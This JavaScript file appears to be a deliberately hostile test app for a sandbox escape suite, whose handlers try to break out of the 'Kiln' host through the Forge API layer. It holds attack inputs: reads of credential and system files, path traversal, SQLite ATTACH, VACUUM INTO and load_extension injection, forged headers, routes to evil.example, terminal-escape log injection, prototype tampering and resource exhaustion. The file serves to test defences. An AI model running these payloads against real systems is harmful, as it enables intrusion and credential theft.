// The escape suite's hostile Forge app (tests/tests/escape_js_*.rs): every
// handler attacks Kiln's host from JavaScript, through the Forge layer,
// around it (trusted routes, tampered built-ins and prototypes) and past it
// (the raw `kiln:app/jira` import the layer itself uses). One component
// holds every case, so the 12 MB engine is built and compiled once.
//
// A handler reports what it saw (Forge error classes, Kiln's verdicts,
// responses, every string it could reach); the Rust side asserts the host's
// refusal, the audit decision and that the credential appears nowhere.
// Nothing here is trusted: the host's checks must hold whatever this file
// does to the layer.

import api, { route, assumeTrustedRoute, routeFromAbsolute } from '@forge/api';
import * as forge from '@forge/api';
import { kvs } from '@forge/kvs';
import * as jira from 'kiln:app/jira@0.5.0';
import * as storage from 'kiln:app/storage@0.5.0';
import * as sqlHost from 'kiln:app/sql@0.5.0';
import fs from 'node:fs';

/** Terminal escapes, a forged `error:` line, C1, DEL, a bidi override, LS. */
const HOSTILE =
  '\u001b[31mred\r\nerror: forged by the app\n\u009b2J\u007f\u202etxt.exe\u2028audit: forged\u001b[0m';

const decoder = new TextDecoder();
const encoder = new TextEncoder();

/** What a thrown value says: Forge's class and Kiln's verdict if any. */
function describe(error) {
  if (error === null || typeof error !== 'object') {
    return { thrown: String(error) };
  }
  return {
    name: error.name,
    className: error.constructor?.name,
    message: error.message,
    status: error.status,
    // A Forge error keeps Kiln's verdict in `kilnError`; a raw WIT call
    // throws it as `payload`.
    kilnError: error.kilnError ?? error.payload,
    missingScopes: error.missingScopes,
  };
}

async function outcome(attempt) {
  try {
    return { ok: await attempt() };
  } catch (error) {
    return { err: describe(error) };
  }
}

async function summary(response) {
  return {
    ok: response.ok,
    status: response.status,
    headers: [...response.headers.entries()],
    body: await response.text(),
  };
}

function rawSummary(answer) {
  return { status: answer.status, headers: answer.headers, body: decoder.decode(answer.body) };
}

/** Kiln's request record from a JSON description, sent past the layer. */
function rawRequest(event) {
  return {
    principal: event.principal ?? 'user',
    method: event.method ?? 'get',
    path: event.path,
    query: event.query ?? [],
    headers: event.headers ?? [],
    body: event.body === undefined ? undefined : encoder.encode(event.body),
  };
}

/** Every string reachable from `root`: property names and data values, own
 * and inherited (bounded). Getters are not called: a native getter called on
 * the wrong receiver may abort the engine, which would end the hunt early. */
function reachableStrings(root, limit = 50000) {
  const out = [];
  const seen = new Set();
  const queue = [root];
  while (queue.length > 0 && out.length < limit) {
    const value = queue.shift();
    if (typeof value === 'string') {
      out.push(value);
      continue;
    }
    if (value === null || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value)) {
      continue;
    }
    seen.add(value);
    for (const key of Reflect.ownKeys(value)) {
      out.push(typeof key === 'string' ? key : String(key));
      const descriptor = Reflect.getOwnPropertyDescriptor(value, key);
      if (descriptor !== undefined && Object.hasOwn(descriptor, 'value')) {
        queue.push(descriptor.value);
      }
    }
    queue.push(Object.getPrototypeOf(value));
  }
  return out;
}

export const benign = async (event) => event;

// --- credentials -------------------------------------------------------

export const hunt = async (event, context) => {
  const user = api.asUser();
  const allowed = {
    myself: await summary(await user.requestJira(route`/rest/api/3/myself`)),
    issue: await summary(await user.requestJira(route`/rest/api/3/issue/${'KILN-1'}`)),
    missing: await summary(await user.requestJira(route`/rest/api/3/issue/${'NOPE-404'}`)),
    raw: rawSummary(jira.requestJira(rawRequest({ path: '/rest/api/3/myself' }))),
  };
  const refused = {
    authorization: await outcome(() =>
      user.requestJira(route`/rest/api/3/myself`, { headers: { Authorization: 'Basic c3RvbGVu' } }),
    ),
    cookie: await outcome(() => user.requestJira(route`/rest/api/3/myself`, { headers: { Cookie: 'tenant.session.token=x' } })),
    proxyAuthorization: await outcome(() =>
      user.requestJira(route`/rest/api/3/myself`, { headers: [['Proxy-Authorization', 'Basic x']] }),
    ),
    asApp: await outcome(() => api.asApp().requestJira(route`/rest/api/3/myself`)),
    rawApp: await outcome(() => rawSummary(jira.requestJira(rawRequest({ principal: 'app', path: '/rest/api/3/myself' })))),
  };
  const files = huntFiles();
  // Everything the app saw goes to the log as well: the log must be as clean
  // as the result.
  console.log(JSON.stringify({ allowed, refused, files }));
  const strings = reachableStrings({ globalThis, context, event, allowed, refused, files });
  return {
    files,
    envKeys: Object.keys(globalThis.process?.env ?? {}),
    globals: Object.getOwnPropertyNames(globalThis).sort(),
    contextKeys: Object.keys(context).sort(),
    allowed,
    refused,
    stringsSeen: strings.length,
    strings,
  };
};

/**
 * The host's files through the layer's `fs`, by every spelling a path takes:
 * the process's environment and command line, the machine's users, Kiln's
 * configuration and data folders, climbs out of the app's root, `file:`
 * URLs, bytes that are not UTF-8. The volume holds only the app's own files
 * its code names (these are not in its folder), so each must be ENOENT; and
 * everything the volume does hold is read, for the canary check.
 */
function huntFiles() {
  const paths = [
    '/proc/self/environ',
    '/proc/self/cmdline',
    '/proc/1/environ',
    '/etc/passwd',
    '/etc/kiln/site.json',
    '/root/.config/kiln/credentials.json',
    '/root/.local/share/kiln/state.sqlite3',
    '../../../../../../etc/passwd',
    '/tmp/../../proc/self/environ',
    'file:///proc/self/environ',
    new URL('file:///etc/hostname'),
    new Uint8Array([0x2f, 0x65, 0x74, 0x63, 0xff, 0x2f]),
    '/dev/stdin',
    '/sys/kernel/hostname',
  ];
  const reads = paths.map((path) => {
    try {
      return { path: String(path), read: fs.readFileSync(path, 'utf8') };
    } catch (error) {
      return { path: String(path), code: error.code };
    }
  });
  const held = {};
  for (const entry of fs.readdirSync('/', { recursive: true })) {
    if (fs.statSync(`/${entry}`).isFile()) held[entry] = fs.readFileSync(`/${entry}`, 'utf8');
  }
  return { reads, held };
}

/** `asUser(accountId)`: the invoking user, then `{ accountId }` (another). */
export const impersonate = async (event, context) => ({
  invoking: context.accountId ?? null,
  self: await outcome(async () => {
    const response = await api.asUser(context.accountId).requestJira(route`/rest/api/3/myself`);
    return { status: response.status, accountId: (await response.json()).accountId };
  }),
  other: await outcome(() => api.asUser(event.accountId).requestJira(route`/rest/api/3/myself`)),
});

// --- storage ----------------------------------------------------------

/** A `storage.transact` outcome as JSON (`committed` carries a BigInt). */
function transactOutcome(outcome) {
  return { tag: outcome.tag, val: String(outcome.val) };
}

/**
 * Transactions past the layer's rules, each followed by reads of every key
 * it named: the host must refuse it whole or keep it inside this
 * installation.
 */
const TRANSACTIONS = {
  /**
   * The layer's each-key-once check disarmed (a Set never finds the key;
   * other lookups, such as the bindings' own, still work), then a key set
   * and deleted.
   */
  async tampered_duplicate() {
    const has = Set.prototype.has;
    Set.prototype.has = function (value) {
      return value === 'tx-dup' ? false : has.call(this, value);
    };
    await kvs.transact().set('tx-dup', 'written').delete('tx-dup').execute();
    return null;
  },
  /** 26 operations straight to the host binding. */
  async raw_too_many() {
    const ops = Array.from({ length: 26 }, (_, i) => ({ key: `tx-${i}`, action: { tag: 'set', val: '1' }, expected: undefined }));
    return transactOutcome(storage.transact(ops));
  },
  /** One key twice straight to the host binding. */
  async raw_duplicate() {
    return transactOutcome(
      storage.transact([
        { key: 'tx-dup', action: { tag: 'set', val: '"first"' }, expected: undefined },
        { key: 'tx-dup', action: { tag: 'set', val: '"second"' }, expected: undefined },
      ]),
    );
  },
  /** A version the guest chose (another installation's, say), expected on its key. */
  async raw_guessed_version(event) {
    return transactOutcome(
      storage.transact([
        { key: event.key, action: { tag: 'set', val: '"overwritten by another installation"' }, expected: { tag: 'version', val: BigInt(event.version) } },
        { key: 'tx-beside', action: { tag: 'set', val: '"beside"' }, expected: undefined },
      ]),
    );
  },
  /** Plants a value and answers the version it was stored at. */
  async plant(event) {
    await kvs.set(event.key, event.value);
    return String(storage.get(event.key).version);
  },
};

/** `{ case, … }`: one transaction case, then what storage holds under every key it named. */
export const transact = async (event) => {
  const attempt = Object.hasOwn(TRANSACTIONS, event.case) ? TRANSACTIONS[event.case] : undefined;
  if (attempt === undefined) {
    throw new Error(`no transaction case ${event.case}`);
  }
  const report = await outcome(() => attempt(event));
  const keys = ['tx-dup', 'tx-0', 'tx-25', 'tx-beside', ...(event.key === undefined ? [] : [event.key])];
  const stored = {};
  for (const key of keys) {
    stored[key] = storage.get(key)?.value ?? null;
  }
  return { attempt: report, stored };
};

// --- Forge SQL past the layer ------------------------------------------

/**
 * The raw `kiln:app/sql` import, past @forge/sql and the layer: statements
 * that would reach beyond the installation's own database (another file,
 * the engine's settings, a second statement smuggled behind the first).
 * `event.outside` is a path on the host that must stay untouched.
 */
export const sql_escape = async (event) => {
  const outside = String(event.outside);
  const quoted = outside.replaceAll("'", "''");
  const attempts = {
    attach_passwd: ['data', "ATTACH DATABASE '/etc/passwd' AS p", '[]'],
    attach_passwd_schema: ['schema', "ATTACH DATABASE '/etc/passwd' AS p", '[]'],
    attach_outside: ['schema', `ATTACH DATABASE '${quoted}' AS o`, '[]'],
    attach_bound: ['data', 'ATTACH DATABASE ? AS o', JSON.stringify([outside])],
    vacuum_into: ['schema', `VACUUM INTO '${quoted}'`, '[]'],
    pragma_list: ['data', 'PRAGMA database_list', '[]'],
    pragma_writable_schema: ['schema', 'PRAGMA writable_schema = ON', '[]'],
    // A schema script may hold several schema statements; a data call one.
    two_statements: ['data', 'CREATE TABLE t (id INT); DROP TABLE t', '[]'],
    smuggled_attach_schema: ['schema', `CREATE TABLE t (id INT); ATTACH DATABASE '${quoted}' AS o`, '[]'],
    two_selects: ['data', 'SELECT 1; SELECT 2', '[]'],
    smuggled_attach: ['data', `SELECT 1; ATTACH DATABASE '${quoted}' AS o`, '[]'],
    load_extension: ['data', `SELECT load_extension('${quoted}')`, '[]'],
    params_not_json: ['data', 'SELECT ?', 'not json'],
    params_not_an_array: ['data', 'SELECT ?', '{"a":1}'],
  };
  const out = {};
  for (const [name, [kind, query, params]] of Object.entries(attempts)) {
    try {
      out[name] = { ok: sqlHost.execute(kind, query, params) };
    } catch (error) {
      out[name] = { err: error?.payload ?? describe(error) };
    }
  }
  return out;
};

// --- path tricks through the layer -------------------------------------

const ANOTHER_CLOUD = '00000000-0000-0000-0000-000000000000';

const PATH_TRICKS = {
  // The layer's own guard (Forge's rules), before anything is sent.
  route_dot_dot: () => route`/rest/api/3/issue/${'../../admin'}`,
  route_encoded_dot_dot: () => route`/rest/api/3/issue/${'%2e%2E'}/x`,
  route_question_mark: () => route`/rest/api/3/issue/${'KILN-1?expand=changelog'}`,
  route_hash: () => route`/rest/api/3/issue/${'KILN-1#/../admin'}`,
  route_backslash: () => route`/rest/api/3/issue/${'..\\admin'}`,
  plain_string: () => '/rest/api/3/myself',
  absolute_string: () => 'https://evil.example/rest/api/3/myself',
  // Past the layer's guard: the host decides.
  route_encoded_slash: () => route`/rest/api/3/issue/${'KILN-1%2fx%2fadmin'}`,
  route_another_cloud_id: () => route`/jsm/ops/api/${ANOTHER_CLOUD}/v1/schedules`,
  trusted_dot_dot: () => assumeTrustedRoute('/rest/api/3/../../admin'),
  trusted_encoded_dot_dot: () => assumeTrustedRoute('/rest/api/3/%2e%2e/admin'),
  trusted_absolute: () => assumeTrustedRoute('https://evil.example/rest/api/3/myself'),
  trusted_protocol_relative: () => assumeTrustedRoute('//evil.example/rest/api/3/myself'),
  trusted_outside_catalogue: () => assumeTrustedRoute('/admin/secrets'),
  // A route the manifest's scopes do not cover (Jira's configuration).
  scope_lacking: () => route`/rest/api/3/workflowscheme`,
  // Allowed: the host's origin, whatever the app names.
  from_absolute_url: () => routeFromAbsolute('https://evil.example/rest/api/3/myself?expand=groups'),
  query_smuggling: () => route`/rest/api/3/myself?expand=${'groups&accountId=x#frag\r\nHost: evil'}`,
};

/** `{ case }`: one path trick through `asUser().requestJira`. */
export const paths = async (event) => {
  const make = Object.hasOwn(PATH_TRICKS, event.case) ? PATH_TRICKS[event.case] : undefined;
  if (make === undefined) {
    throw new Error(`no path trick ${event.case}`);
  }
  return outcome(async () => summary(await api.asUser().requestJira(make())));
};

/** A raw `kiln:app/jira.request-jira` call, past the layer entirely. */
export const raw = async (event) => {
  try {
    return { ok: rawSummary(jira.requestJira(rawRequest(event))) };
  } catch (error) {
    return { err: describe(error) };
  }
};

// --- CPU and memory ----------------------------------------------------

export const spin = async () => {
  for (;;) {
    // Never yields.
  }
};

export const spin_microtasks = async () => {
  // Each turn queues the next and returns: the queue never drains, and
  // nothing accumulates.
  const again = () => {
    Promise.resolve().then(again);
  };
  again();
  return new Promise(() => {});
};

/** Awaits a promise nothing will ever settle. */
export const never_settles = async () => new Promise(() => {});

export const spin_around_calls = async () => {
  for (;;) {
    try {
      await api.asUser().requestJira(assumeTrustedRoute('/rest/api/3/../admin'));
    } catch {
      // Refused; try again.
    }
  }
};

/** Keeps 1 MiB arrays until an allocation fails; says how many it got. */
export const grow = async () => {
  const kept = [];
  try {
    for (;;) {
      kept.push(new Float64Array(1 << 17).fill(kept.length));
    }
  } catch (error) {
    const mib = kept.length;
    kept.length = 0;
    throw new Error(`${String(error)} after ${mib} MiB`);
  }
};

// Small objects live in the engine's garbage-collected heap, whose own
// 32 MiB cap the build lifts (runtime/guest-build/src/gc_heap_cap.rs): with
// `count`, keeps that many alive and answers how many; without, keeps
// adding until something stops it.
export const grow_objects = async (event) => {
  await Promise.resolve();
  const kept = [];
  const count = event?.count ?? Infinity;
  while (kept.length < count) {
    kept.push({ i: kept.length, name: `row ${kept.length}`, tags: [kept.length] });
  }
  return kept.length;
};

export const grow_string = async () => {
  let text = 'x';
  for (;;) {
    text = text + text;
    // Searching flattens the rope: every doubling really allocates.
    if (text.indexOf('y') !== -1) {
      return text.length;
    }
  }
};

export const recurse = async () => {
  const down = (n) => down(n + 1) + 1;
  return down(0);
};

// --- output ------------------------------------------------------------

export const log_escapes = async (event) => {
  console.log(HOSTILE);
  console.error(HOSTILE);
  return event;
};

export const throw_escapes = async () => {
  throw new Error(HOSTILE);
};

export const result_escapes = async () => ({ text: HOSTILE });

/** A "request error" the app made up, with hostile text where Kiln's verdict goes. */
export const forged_request_error = async () => {
  const error = new Error('forged');
  error.kilnError = { tag: 'scope-denied', val: { route: HOSTILE, missing: ['read:jira-work', HOSTILE] } };
  throw error;
};

// --- tampering with the Forge layer ------------------------------------

const TAMPERING = {
  /** The layer's path guard disarmed: `..` passes it. */
  async regexp_test() {
    RegExp.prototype.test = () => false;
    return summary(await api.asUser().requestJira(route`/rest/api/3/issue/${'../../../admin'}`));
  },
  /** The route check disarmed: any object is a route. */
  async weakset_has() {
    WeakSet.prototype.has = () => true;
    return summary(await api.asUser().requestJira({ value: '//evil.example/rest/api/3/myself' }));
  },
  /** Every request's default init carries an Authorization header. */
  async object_prototype_headers() {
    Object.defineProperty(Object.prototype, 'headers', {
      value: { Authorization: 'Basic c3RvbGVu' },
      configurable: true,
      writable: true,
    });
    return summary(await api.asUser().requestJira(route`/rest/api/3/myself`));
  },
  /** The layer's exports and clients overwritten: each refused by the language. */
  async overwrite_exports() {
    const attempts = {
      namespace_route: () => {
        Object.defineProperty(forge, 'route', { value: (strings) => assumeTrustedRoute(strings.join('../')) });
      },
      default_as_user: () => {
        api.asUser = () => api.asApp();
      },
      define_as_app: () => {
        Object.defineProperty(api, 'asApp', { value: () => null });
      },
      client_request_jira: () => {
        api.asUser().requestJira = () => 'forged';
      },
      route_value: () => {
        route`/rest/api/3/myself`.value = '/../admin';
      },
      response_class: () => {
        Object.defineProperty(forge, 'Response', { value: class {} });
      },
    };
    const results = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      results[name] = await outcome(attempt);
    }
    // The layer's guard still stands.
    results.route_after = await outcome(() => route`/rest/api/3/issue/${'../admin'}`);
    return results;
  },
  /** The layer's method check disarmed: TRACE reaches the WIT lowering. */
  async set_has() {
    Set.prototype.has = () => true;
    return summary(await api.asUser().requestJira(route`/rest/api/3/myself`, { method: 'TRACE' }));
  },
  /** Forge's Response replaced: the raw answer shows only what the host let through. */
  async response_prototype() {
    const answer = await api.asUser().requestJira(route`/rest/api/3/myself`);
    Object.setPrototypeOf(answer, Object.prototype);
    const own = Object.getOwnPropertyNames(answer);
    return { own, raw: rawSummary(jira.requestJira(rawRequest({ path: '/rest/api/3/myself' }))) };
  },
  /** The result encoder replaced: the host checks the JSON itself. */
  async json_stringify() {
    JSON.stringify = () => '{"forged": ';
    return { fine: true };
  },
};

/** `{ case }`: one tampering, then a request through the tampered layer. */
export const tamper = async (event) => {
  const attempt = Object.hasOwn(TAMPERING, event.case) ? TAMPERING[event.case] : undefined;
  if (attempt === undefined) {
    throw new Error(`no tampering ${event.case}`);
  }
  if (event.case === 'json_stringify') {
    return attempt();
  }
  return outcome(attempt);
};
